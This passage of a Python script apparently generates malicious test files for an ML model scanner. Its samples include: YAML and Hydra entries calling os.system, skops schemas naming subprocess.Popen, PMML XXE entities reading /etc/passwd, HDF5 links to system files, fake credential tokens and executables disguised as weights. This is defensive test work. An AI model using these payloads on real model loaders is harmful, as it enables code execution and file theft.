            z.writestr("config.json", json.dumps(config)); z.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
    def h5(name, config=None, **kw):
        with h5py.File(evil("keras", name + ".h5"), "w", **kw) as f:
            if config:
                f.attrs["model_config"] = json.dumps(config); f.attrs["keras_version"] = "2.10"
            return f
    h5("lambda2", {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": ["4wEAAA==", None, None], "function_type": "lambda"}}]}})
    h5("lambda_latest", {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": ["4wEAAA==" * 20000, None, None], "function_type": "lambda"}}]}}, libver="latest")
    h5("custom2", {"class_name": "Sequential", "config": {"layers": [{"class_name": "Custom>Evil", "config": {}}]}})
    with h5py.File(evil("keras", "external_link.h5"), "w") as f:
        f["w"] = h5py.ExternalLink("/etc/passwd", "/x")
    with h5py.File(evil("keras", "external_data.h5"), "w") as f:
        f.create_dataset("w", shape=(10,), dtype="u1", external=[("/etc/hostname", 0, 10)])
    with zipfile.ZipFile(evil("keras", "weights_link.keras"), "w") as z:
        z.writestr("config.json", "{}"); z.writestr("metadata.json", "{}"); z.writestr("model.weights.h5", open(evil("keras", "external_link.h5"), "rb").read())


def pb(field, value):
    def varint(n):
        out = b""
        while n > 127:
            out += bytes([n & 127 | 128]); n >>= 7
        return out + bytes([n])
    if isinstance(value, int):
        return varint(field << 3) + varint(value)
    value = value.encode() if isinstance(value, str) else value
    return varint(field << 3 | 2) + varint(len(value)) + value


def graphs():
    def node(op):
        return pb(1, "n") + pb(2, op)
    for op in ("ReadFile", "WriteFile", "PyFunc", "EagerPyFunc", "MatchingFiles", "SaveDatasetV2", "DebugIdentityV2", "SqlDataset", "Rpc", "ImmutableConst"):
        folder = evil("savedmodel", op); os.makedirs(folder, exist_ok=True)
        write(folder + "/saved_model.pb", pb(1, 1) + pb(2, pb(2, pb(1, node("Add")) + pb(2, pb(1, pb(1, "sig") + pb(3, node(op)))))))
    write(evil("savedmodel", "frozen.pb"), pb(1, node("Add")) + pb(1, node("WriteFile")))
    write(evil("savedmodel", "text.pbtxt"), 'node {\n  name: "n"\n  op: "PyFunc"\n}\n')
    folder = evil("savedmodel", "keras-metadata"); os.makedirs(folder, exist_ok=True)
    write(folder + "/keras_metadata.pb", pb(1, pb(2, 1) + pb(3, "root.layer") + pb(4, "_tf_keras_layer") + pb(5, json.dumps({"class_name": "Lambda", "config": {"function_type": "lambda", "function": ["4wEA", None, None]}}))))
    for op in ("py_func", "save_combine", "load", "run_program"):
        write(evil("paddle", op + ".pdmodel"), pb(1, pb(1, 0) + pb(4, pb(3, "relu")) + pb(4, pb(3, op))))
    write(evil("paddle", "weights.pdparams"), SYSTEM)
    for name, body in (("model", pb(1, 5) + pb(555, pb(10, "EvilModel"))), ("layer", pb(1, 5) + pb(500, pb(1, pb(1, "l") + pb(500, pb(10, "Evil"))))), ("linked", pb(1, 5) + pb(556, pb(1, "x"))), ("pipeline", pb(1, 5) + pb(202, pb(1, pb(1, 5) + pb(555, pb(10, "Evil")))))):
        write(evil("coreml", name + ".mlmodel"), body)
    net = '<?xml version="1.0"?>\n<net name="m" version="11"><layers><layer id="0" name="x" type="Evil" version="extension"/></layers></net>\n'
    write(evil("openvino", "extension.xml"), net)
    write(evil("openvino", "entity.xml"), '<?xml version="1.0"?>\n<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<net name="m" version="11">&x;</net>\n')


def tflites():
    import flatbuffers
    for name in ("EvilOp", "FlexWriteFile", "FlexPyFunc"):
        b = flatbuffers.Builder(256)
        custom = b.CreateString(name)
        b.StartObject(4); b.PrependInt8Slot(0, 32, 0); b.PrependUOffsetTRelativeSlot(1, custom, 0); code = b.EndObject()
        b.StartVector(4, 1, 4); b.PrependUOffsetTRelative(code); codes = b.EndVector()
        b.StartObject(5); sub = b.EndObject()
        b.StartVector(4, 1, 4); b.PrependUOffsetTRelative(sub); subs = b.EndVector()
        b.StartObject(8); b.PrependUint32Slot(0, 3, 0); b.PrependUOffsetTRelativeSlot(1, codes, 0); b.PrependUOffsetTRelativeSlot(2, subs, 0)
        b.Finish(b.EndObject(), file_identifier=b"TFL3")
        write(evil("tflite", name + ".tflite"), bytes(b.Output()))


def skops_files():
    def sk(name, node):
        with zipfile.ZipFile(evil("skops", name + ".skops"), "w") as z:
            z.writestr("schema.json", json.dumps({"protocol": 2, "_skops_version": "0.11", **node}))
    sk("object", {"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode", "content": {}})
    sk("function", {"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}})
    sk("operator", {"__class__": "call", "__module__": "builtins", "__loader__": "OperatorFuncNode", "attrs": {}})
    sk("method", {"__class__": "X", "__module__": "sklearn.linear_model._logistic", "__loader__": "MethodNode", "content": {"func": "__globals__"}})
    sk("unlisted", {"__class__": "Thing", "__module__": "mypackage", "__loader__": "ObjectNode", "content": {}})
    sk("type", {"__class__": "Popen", "__module__": "subprocess", "__loader__": "TypeNode"})
    sk("deep", {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [{"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "posix", "function": "system"}}]})
    with zipfile.ZipFile(evil("skops", "pickle_inside.skops"), "w") as z:
        z.writestr("schema.json", "{}"); z.writestr("x.pkl", SYSTEM)


def configs():
    w = lambda n, v: write(evil("config", n), v if isinstance(v, (str, bytes)) else json.dumps(v))
    for n in ("config.json", "tokenizer_config.json", "generation_config.json"):
        folder = evil("config", "auto_map-" + n); os.makedirs(folder, exist_ok=True)
        write(folder + "/" + n, json.dumps({"auto_map": {"AutoModel": "modeling_evil.EvilModel"}}))
    w("remote.json", {"trust_remote_code": True}); w("pipelines.json", {"custom_pipelines": {"x": {"impl": "evil.Pipe"}}})
    w("hydra_system.yaml", "model:\n  _target_: os.system\n  command: echo pwned\n"); w("hydra_exec.yaml", "_target_: builtins.exec\n"); w("hydra_unknown.yaml", "x:\n  _target_: evil.module.Thing\n"); w("hydra_json.json", {"a": [{"_target_": "subprocess.Popen"}]}); w("class_path.yaml", "trainer:\n  class_path: subprocess.Popen\n")
    w("tag_apply.yaml", "a: !!python/object/apply:os.system ['echo pwned']\n"); w("tag_name.yaml", "a: !!python/name:os.system\n"); w("tag_long.yaml", "a: !<tag:yaml.org,2002:python/object/new:subprocess.Popen> [[echo]]\n"); w("tag_directive.yaml", "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [echo]\n"); w("tag_broken.yaml", "a: !!python/object/apply:os.system [echo]\nb: [unclosed\n")
    w("jsonpickle.json", {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["echo"]}]})
    m = evil("config", "mlflow-loader"); os.makedirs(m, exist_ok=True); write(m + "/MLmodel", "flavors:\n  python_function:\n    loader_module: evil.loader\n    python_version: '3.11'\n")
    m = evil("config", "mlflow-code"); os.makedirs(m, exist_ok=True); write(m + "/MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n")
    m = evil("config", "diffusers"); os.makedirs(m, exist_ok=True); write(m + "/model_index.json", json.dumps({"_class_name": "X", "unet": ["my_unet", "Evil"]}))
    w("secret.json", {"note": "AKIA" + "ABCDEFGHIJKLMNOP", "x": 1}); w("secret.ipynb", {"nbformat": 4, "cells": [{"source": ["token = 'ghp_" + "a" * 36 + "'"]}]}); w("key.txt", "-----BEGIN RSA PRIVATE KEY-----\nAAAA\n")
    pmml = '<?xml version="1.0"?>\n<!DOCTYPE PMML [{}]>\n<PMML version="4.4">{}</PMML>\n'
    x = lambda n, b: write(evil("pmml", n + ".pmml"), b)
    x("xxe", pmml.format('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;")); x("laughs", pmml.format('<!ENTITY a "ha"><!ENTITY b "&a;&a;">', "&b;")); x("parameter", pmml.format('<!ENTITY % p SYSTEM "http://localhost/x">%p;', "")); x("external", '<?xml version="1.0"?>\n<!DOCTYPE PMML SYSTEM "http://localhost/x.dtd">\n<PMML></PMML>\n'); x("utf16", pmml.format('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;").encode("utf-16")); x("style", '<?xml version="1.0"?>\n<?xml-stylesheet href="http://localhost/x.xsl"?>\n<PMML></PMML>\n')
    r = lambda n, b: write(evil("r", n), b)
    head = b"X\n" + struct.pack(">III", 2, 0x40000, 0x20300)
    promise = struct.pack(">I", 5) + struct.pack(">I", 253) + struct.pack(">I", 254) + struct.pack(">I", 6) + struct.pack(">I", 1) + struct.pack(">II", 9 | 64 << 12, 6) + b"system" + struct.pack(">I", 254)
    r("promise.rds", gzip.compress(head + promise)); r("plain.rds", head + promise)
    r("function.rds", gzip.compress(head + struct.pack(">I", 3) + struct.pack(">I", 253) + struct.pack(">I", 254) + struct.pack(">I", 254)))
    r("list.RData", gzip.compress(b"RDX2\n" + head + struct.pack(">I", 2 | 0x400) + struct.pack(">I", 1) + struct.pack(">II", 9, 1) + b"x" + promise + struct.pack(">I", 254)))


def programs():
    w = lambda n, b: write(evil("executable", n), b)
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 200
    pe = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 100
    for n, b in (("pytorch_model.bin", elf), ("weights.dat", elf), ("model.safetensors.bak", pe), ("tokenizer.model", pe), ("model.onnx.data", b"\xcf\xfa\xed\xfe" + b"\0" * 100), ("config.bin", b"#!/bin/sh\necho pwned\n"), ("vocab.txt", b"#!/usr/bin/env python3\nprint('pwned')\n"), ("x.pt", elf), ("libcustom.so", elf), ("op.dll", pe), ("Model.class", b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 50), ("model.wasm.bin", b"\0asm\1\0\0\0" + b"\0" * 20)):
        w(n, b)
    with zipfile.ZipFile(evil("executable", "packed.zip"), "w") as z:
        z.writestr("weights.bin", elf)
    with zipfile.ZipFile(evil("executable", "handler.mar"), "w") as z:
        z.writestr("MAR-INF/MANIFEST.json", json.dumps({"model": {"handler": "handler.py"}})); z.writestr("handler.py", "print('pwned')")


if __name__ == "__main__":
    for group in (gadgets, tricks, nested, kept, torches, joblibs, safetensors_files, templates, onnx_files, keras_files, graphs, tflites, skops_files, configs, programs):
        attempt(group)
